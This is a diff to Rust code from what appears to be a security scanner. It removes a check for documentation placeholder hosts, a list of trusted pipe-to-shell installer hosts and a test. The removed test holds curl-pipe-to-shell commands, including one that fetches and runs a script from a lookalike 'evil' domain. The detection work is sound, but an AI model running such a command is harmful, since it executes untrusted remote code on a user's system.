@@ -199,28 +199,6 @@ pub(crate) fn is_weak_password(value: &str) -> bool {
         && !lower.contains("config.")
 }
 
-/// Whether a command names a host that only documentation has.
-pub(crate) fn is_sample_host(command: &str) -> bool {
-    let lower = command.to_ascii_lowercase();
-    [
-        "example.com",
-        "example.org",
-        "example.net",
-        "localhost",
-        "127.0.0.1",
-        "your-",
-        "your_",
-        "yourdomain",
-        "<",
-        "{{",
-        "${",
-        "acme.com",
-    ]
-    .iter()
-    .any(|host| lower.contains(host))
-        && !lower.contains(".evil.")
-}
-
 /// Whether the match or what is around it starts a shell or redirects one.
 pub(crate) fn has_shell(site: &super::Site<'_>) -> bool {
     let around =
@@ -236,61 +214,6 @@ pub(crate) fn is_zip_tool(command: &str) -> bool {
     ["unzip -", "unzip ./", "zipfile.", "extractall", "7z x", "tar -", "tar x"]
         .iter()
         .any(|tool| command.contains(tool))
-}
-
-/// Hosts from which well-known tools are installed by a pipe into a shell.
-const HOSTS: [&str; 39] = [
-    "sh.rustup.rs",
-    "get.docker.com",
-    "bun.sh",
-    "deno.land",
-    "deno.com",
-    "astral.sh",
-    "get.helm.sh",
-    "nodesource.com",
-    "raw.githubusercontent.com",
-    "install.python-poetry.org",
-    "brew.sh",
-    "get.k3s.io",
-    "fnm.vercel.app",
-    "sdkman.io",
-    "starship.rs",
-    "ollama.com",
-    "ollama.ai",
-    "pnpm.io",
-    "cursor.com",
-    "rclone.org",
-    "opencode.ai",
-    "release.solana.com",
-    "release.anza.xyz",
-    "volta.sh",
-    "fly.io",
-    "tailscale.com",
-    "get.pnpm.io",
-    "dl.google.com",
-    "sdk.cloud.google.com",
-    "aka.ms",
-    "foundry.paradigm.xyz",
-    "claude.ai",
-    "openclaw.ai",
-    "clawhub.ai",
-    "get.volta.sh",
-    "mise.run",
-    "cli.github.com",
-    "github.com",
-    "nixos.org",
-];
-
-pub(crate) fn is_known_host(command: &str) -> bool {
-    let lower = command.to_ascii_lowercase();
-    HOSTS.iter().any(|host| {
-        lower.match_indices(host).any(|(at, _)| {
-            let before = lower.get(..at).unwrap_or("");
-            let after = lower.get(at + host.len()..).unwrap_or("");
-            before.ends_with(['/', '.', ' ', '\'', '"'])
-                && !after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '.' || c == '-' || c == '@')
-        })
-    })
 }
 
 fn distinct(value: &str) -> usize {
@@ -369,12 +292,5 @@ mod tests {
         for secret in ["9fK2mQ7xT4vB8nLw", "c55dbac4-e0e8-4a06-b892-75cac2387ce5", "hR8+2kd/Qm3vZ1pW=="] {
             assert!(!is_dummy(secret), "{secret}");
         }
-    }
-
-    #[test]
-    fn a_known_host_is_no_part_of_another() {
-        assert!(is_known_host("curl -fsSL https://sh.rustup.rs | sh"));
-        assert!(!is_known_host("curl -fsSL https://sh.rustup.rs.evil.top/x | sh"));
-        assert!(!is_known_host("curl -fsSL https://notbun.sh/x | sh"));
     }
 }
